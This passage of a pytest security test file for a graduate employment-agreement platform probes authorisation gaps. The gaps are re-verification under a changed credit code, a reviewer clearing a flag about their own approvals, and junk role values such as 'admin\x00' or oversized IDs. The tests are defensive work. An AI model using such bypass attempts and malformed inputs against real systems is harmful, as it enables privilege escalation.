        response = client.post(INVITE, invitation_form(student))
    assert response.status_code == 302
    assert any("grad@example.com" in m.to for m in mail.outbox), "the graduate got no e-mail"


def test_a_new_credit_code_needs_new_evidence_before_reverification(
    client, employer_user, school_reviewer
):
    """The unit takes the credit code of a company that has no account here. Its business
    licence on file names its old code, yet the unit can be verified again at once on it;
    once verified it sees (and may act on) every offline registration naming that code."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from stdnum.cn import uscc

    from employers.models import Employer

    employer = employer_user.employer
    employer.business_licence = SimpleUploadedFile("licence.pdf", f.pdf_bytes())
    employer.authorisation_letter = SimpleUploadedFile("letter.pdf", f.pdf_bytes())
    employer.save()
    body = "91310000" + "6" * 9
    target = body + uscc.calc_check_digit(body)
    client.force_login(employer_user)
    assert client.post(DETAILS, _details(employer, uscc=target)).status_code == 302
    employer = Employer.objects.get(pk=employer.pk)
    assert employer.uscc == target
    try:
        employer_services.employer_verify(employer=employer, by=school_reviewer)
    except Exception:
        return  # refused until new documents arrive: the defence holds
    raise AssertionError("re-verified under a new credit code on the old code's licence")


def test_a_reviewer_cannot_explain_away_their_own_fast_approvals_flag(
    client, world, employer_user, college_reviewer
):
    """The "approvals too fast" flag names a reviewer; that same college reviewer sees it on
    their 核查 page and may mark it explained themselves."""
    from agreements.online import services as online
    from reviews import flags
    from reviews.models import FlagExplanation, VerificationSettings

    VerificationSettings.objects.create(school=world.school_a, fast_approvals=1,
                                        approval_seconds=3600)  # fmt: skip
    for _ in range(3):
        graduate = f.make_student(f.make_record(world.major_a1))
        agreement = online.invitation_accept(
            invitation=f.make_invitation(employer_user.employer, graduate), user=graduate.user
        )
        online.agreement_approve(agreement=agreement, reviewer=college_reviewer)
    raised = [
        flag.key
        for flag in flags.cached(flags.scope_of(college_reviewer), refresh=True).flags
        if flag.kind == flags.Kind.FAST
    ]
    if f"fast:{college_reviewer.pk}" not in raised:
        pytest.skip(f"fast flag not raised in the college scope: {raised}")
    client.force_login(college_reviewer)
    client.post(
        reverse("reviews:verification_explain"),
        {"key": f"fast:{college_reviewer.pk}", "comment": "都是我认真审的"},
    )
    assert not FlagExplanation.objects.filter(explained_by=college_reviewer).exists(), (
        "the reviewer explained away the flag about their own approvals"
    )


def test_colleague_role_junk(client, employer_user):
    hr = f.make_user(Role.EMPLOYER, employer=employer_user.employer, unit_role="hr")
    client.force_login(employer_user)
    for role in ("owner", "", "ADMIN", "admin\x00", ["admin", "hr"], "a" * 100_000):
        response = client.post(
            reverse("employers:colleague_role", args=[hr.pk]), {"unit_role": role}
        )
        assert response.status_code in (302, 400)
        hr.refresh_from_db()
        assert hr.unit_role in ("hr", "admin")
    assert (
        client.post(
            reverse("employers:colleague_role", args=[10**18]), {"unit_role": "hr"}
        ).status_code
        == 404
    )
    assert client.post(reverse("employers:colleague_remove", args=[10**30])).status_code == 404
